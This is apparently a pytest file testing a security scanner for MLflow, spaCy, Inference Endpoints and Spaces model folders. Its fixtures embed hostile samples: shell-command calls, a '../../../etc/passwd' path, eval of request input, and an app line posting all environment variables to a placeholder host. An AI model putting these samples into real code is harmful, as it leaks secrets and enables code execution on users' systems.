"""Model folders of MLflow, spaCy, Inference Endpoints and Spaces."""

import pytest

from tests.conftest import look_at_folder
from tests.model.repositories import all_ids, all_severe, dump, safetensors

MLMODEL = """
artifact_path: model
flavors:
  python_function:
    env: {{conda: conda.yaml, virtualenv: python_env.yaml}}
    loader_module: {loader}
    model_path: {path}
    python_version: 3.11.4
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.5.0
mlflow_version: 3.1.0
"""


def mlmodel(loader: str = "mlflow.sklearn", path: str = "model.pkl") -> bytes:
    return MLMODEL.format(loader=loader, path=path).encode()


def message(contents: dict[str, bytes], rule: str) -> str:
    reports = look_at_folder(contents)
    return "; ".join(f.message for r in reports.values() for f in r.findings if f.id == rule)


@pytest.mark.parametrize(
    "loader", ["mlflow.sklearn", "mlflow.pyfunc.model", "mlflow.pyfunc.loaders.code_model", "mlflow.pytorch"]
)
def test_mlflow_good_own_loaders(loader: str) -> None:
    assert not look_at_folder({"MLmodel": mlmodel(loader), "model.pkl": b"x"})


@pytest.mark.parametrize(
    ("loader", "rule"), [("evil_package.load", "MDL106"), ("subprocess.run", "MDL118"), ("mlflow", "MDL106")]
)
def test_mlflow_bad_loaders(loader: str, rule: str) -> None:
    assert rule in all_ids(look_at_folder({"MLmodel": mlmodel(loader)}))


def test_mlflow_bad_code_beside() -> None:
    text = b"flavors:\n  python_function:\n    loader_module: my_loader\n    code: code\n    data: data\n"
    contents = {
        "m/MLmodel": text,
        "m/code/my_loader.py": b"from helper import run\ndef _load_pyfunc(p): return run(p)",
        "m/code/helper.py": b"import os as o\no.system('id')\ndef run(p): ...",
        "m/code/json.py": b"import ctypes\nctypes.CDLL('x.so')",
    }
    reports = look_at_folder(contents)
    assert {path for path, r in reports.items() if any(f.id == "MDL101" for f in r.findings)} == {
        "m/code/helper.py",
        "m/code/json.py",
    }
    assert "always, by mlflow.pyfunc.load_model" in message(contents, "MDL111")


def test_mlflow_good_code_beside() -> None:
    text = b"flavors:\n  python_function:\n    loader_module: my_loader\n    code: code\n"
    contents = {"MLmodel": text, "code/my_loader.py": b"import json\ndef _load_pyfunc(p): return json.load(open(p))"}
    assert all_ids(look_at_folder(contents)) == {"MDL100", "MDL111"}


def test_mlflow_bad_models_from_code() -> None:
    text = b"flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: agent.py\n"
    contents = {"MLmodel": text, "agent.py": b"import subprocess\nsubprocess.run(['id'])"}
    assert "MDL101" in all_ids(look_at_folder(contents))
    assert "MDL100" in all_ids(look_at_folder({"MLmodel": text}))


def test_mlflow_bad_paths_and_text() -> None:
    assert "MDL104" in all_ids(look_at_folder({"MLmodel": mlmodel(path="../../../etc/passwd")}))
    assert "MDL108" in all_ids(look_at_folder({"MLmodel": b"flavors: [\n"}))
    assert not look_at_folder({"MLmodel": b"just text"})


SPACY = b"""
[nlp]
lang = "en"
pipeline = ["tok2vec","ner"]
[nlp.tokenizer]
@tokenizers = "spacy.Tokenizer.v1"
[components.ner.model]
@architectures = "spacy.TransitionBasedParser.v2"
[training.optimizer]
@optimizers = "Adam.v1"
[training.batcher.size]
@schedules = "compounding.v1"
[components.transformer.model]
@architectures = "spacy-transformers.TransformerModel.v3"
"""


def test_mdl202_good_functions_of_spacy() -> None:
    assert not look_at_folder({"config.cfg": SPACY, "meta.json": dump({"lang": "en", "name": "x"})})


def test_mdl202_bad_function_of_a_stranger() -> None:
    config = SPACY + b'[nlp.before_creation]\n@callbacks = "evil.run_me"\n'
    contents = {"config.cfg": config, "meta.json": dump({"lang": "en"})}
    reports = look_at_folder(contents)
    assert all_ids(reports) == {"MDL202"}
    assert reports["config.cfg"].findings[0].where.line == 16


def test_spacy_package_code_is_read() -> None:
    contents = {"p/config.cfg": SPACY, "p/meta.json": dump({}), "p/__init__.py": b"import os\nos.system('id')"}
    assert "MDL101" in all_ids(look_at_folder(contents))


HANDLER = b"from transformers import pipeline\nclass EndpointHandler:\n    def __init__(self, path=''):\n        self.p = pipeline('x', path)\n    def __call__(self, data):\n        return self.p(data)\n"


def test_handler_is_named_and_read() -> None:
    contents = {"handler.py": HANDLER, "requirements.txt": b"x", "model.safetensors": safetensors()}
    assert "always, by Inference Endpoints" in message(contents, "MDL111")
    assert not all_severe(look_at_folder(contents))
    contents["handler.py"] = HANDLER.replace(b"return self.p", b"return eval(data['x']) or self.p")
    assert {"MDL110", "MDL113"} <= all_ids(look_at_folder(contents))


def test_handler_of_something_else_is_left_alone() -> None:
    assert not look_at_folder({"handler.py": b"import os\ndef lambda_handler(e, c): os.system('id')"})


CARD = b"---\ntitle: x\nsdk: gradio\napp_file: app.py\n---\n# x\n"


def test_space_is_judged_by_its_data() -> None:
    app = b"import subprocess, gradio as gr\nsubprocess.run('pip install flash-attn', shell=True)\ngr.Interface(fn=len).launch()"
    contents = {"README.md": CARD, "app.py": app}
    assert "always, by the Space that it is" in message(contents, "MDL111")
    assert not all_severe(look_at_folder(contents))
    contents["app.py"] = b"import os, requests\nrequests.post('http://h', json=dict(os.environ))"
    assert "MDL114" in all_ids(look_at_folder(contents))


def test_card_without_an_sdk_names_no_app() -> None:
    assert not look_at_folder({"README.md": b"---\nlicense: mit\n---\n", "app.py": b"import os\nos.system('id')"})
